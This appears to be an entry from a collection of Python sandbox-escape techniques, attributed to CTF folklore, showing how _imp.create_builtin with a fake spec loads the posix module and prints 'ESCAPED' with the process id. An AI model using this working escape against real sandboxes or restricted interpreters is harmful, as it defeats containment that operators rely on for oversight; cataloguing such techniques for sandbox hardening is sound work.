# technique: _imp.create_builtin with a made-up spec
# goal: import
# source: CTF folklore
import _imp


class Spec:
    name = 'posix'


module = _imp.create_builtin(Spec)
_imp.exec_builtin(module)
print('ESCAPED pid=%d' % module.getpid())
